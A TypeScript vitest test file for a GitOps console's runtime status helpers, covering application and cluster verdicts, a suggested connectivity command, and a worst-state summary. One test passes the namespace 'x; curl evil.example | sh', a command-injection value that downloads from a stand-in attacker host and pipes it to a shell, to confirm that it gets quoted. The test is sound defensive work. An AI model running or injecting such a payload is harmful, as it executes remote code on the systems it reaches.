import { describe, expect, it } from 'vitest';

import { applicationsVerdict, clustersVerdict, connectivity, summary, type Runtime } from '../../../apps/control-plane/console/src/pages/runtimes/types';

describe('a runtime', () => {
  it('is not called healthy for applications that are missing or not known', () => {
    const of = (counts: Record<string, number>) => applicationsVerdict('prod', Object.entries(counts).map(([word, count]) => ({ word, count })));
    expect(of({ Healthy: 3 })).toMatchObject({ state: 'Healthy' });
    expect(of({ Healthy: 3, Missing: 1 })).toMatchObject({ state: 'Missing', sentence: '1 of 4 applications is Missing.', action: { link: '/applications?q=runtime:prod+health:Missing' } });
    expect(of({ Unknown: 2 })).toMatchObject({ state: 'Unknown', sentence: '2 of 2 applications are Unknown.' });
    expect(of({ Unknown: 2, Degraded: 1 })).toMatchObject({ state: 'Degraded', sentence: '1 of 3 applications is Degraded.' });
    expect(of({})).toMatchObject({ state: 'Unknown' });
  });
  it('says of clusters only what is known', () => {
    expect(clustersVerdict([])).toMatchObject({ state: 'Unknown' });
    expect(clustersVerdict(['Successful', 'Successful'])).toEqual({ state: 'Healthy', sentence: '2 clusters are reached.' });
    expect(clustersVerdict(['Successful', 'Unknown'])).toEqual({ state: 'Unknown', sentence: 'Whether 1 of 2 clusters can be reached is not known.' });
    expect(clustersVerdict(['Failed', 'Unknown'])).toMatchObject({ state: 'Degraded' });
  });
  it('names its namespace as one word of a command', () => {
    const of = (namespace: string | null, lastUpdated: string | null) => connectivity({ metadata: { namespace }, lastUpdated, available: false } as Runtime).action?.command;
    expect(of('gitops', null)).toBe('helm test gitops-runtime -n gitops --logs');
    expect(of(null, '2026-03-04T09:12:00Z')).toBe('gitopsctl check -n argocd');
    expect(of('x; curl evil.example | sh', '2026-03-04T09:12:00Z')).toBe("gitopsctl check -n 'x; curl evil.example | sh'");
  });
  it('sums up parts by the worst', () => {
    expect(summary(['Healthy', 'Unknown'], 'Git sources', ['Degraded', 'Missing', 'Unknown'])).toMatchObject({ state: 'Unknown' });
  });
});
